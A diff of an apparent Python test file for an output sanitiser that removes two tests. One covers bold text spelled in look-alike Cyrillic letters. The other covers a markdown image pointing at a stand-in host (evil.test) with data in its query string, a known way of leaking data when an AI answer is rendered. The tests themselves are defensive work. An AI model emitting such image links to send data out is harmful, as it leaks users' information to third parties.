@@ -40,10 +40,6 @@ def test_a_line_that_only_speaks_of_it_stays_as_it_is(line: str) -> None:
     assert quoted(f"Yes.\n{line}\nNo.") == f"Yes.\n{line}\nNo."
 
 
-def test_nothing_is_left_in_bold_in_whatever_letters() -> None:
-    assert quoted("**Ѕоurсеѕ:**\n__really__") == "Ѕоurсеѕ:\nreally"
-
-
 @pytest.mark.parametrize(
     ("text", "seen"),
     [
@@ -58,10 +54,6 @@ def test_nothing_is_left_in_bold_in_whatever_letters() -> None:
 )
 def test_what_hides_or_turns_text_around_is_removed(text: str, seen: str) -> None:
     assert cleaned(text) == seen
-
-
-def test_an_image_is_not_fetched_by_who_shows_the_answer() -> None:
-    assert cleaned("Look: ![x](https://evil.test/?q=42)!") == "Look: [x](https://evil.test/?q=42)!"
 
 
 def test_a_long_line_takes_no_long_time() -> None:
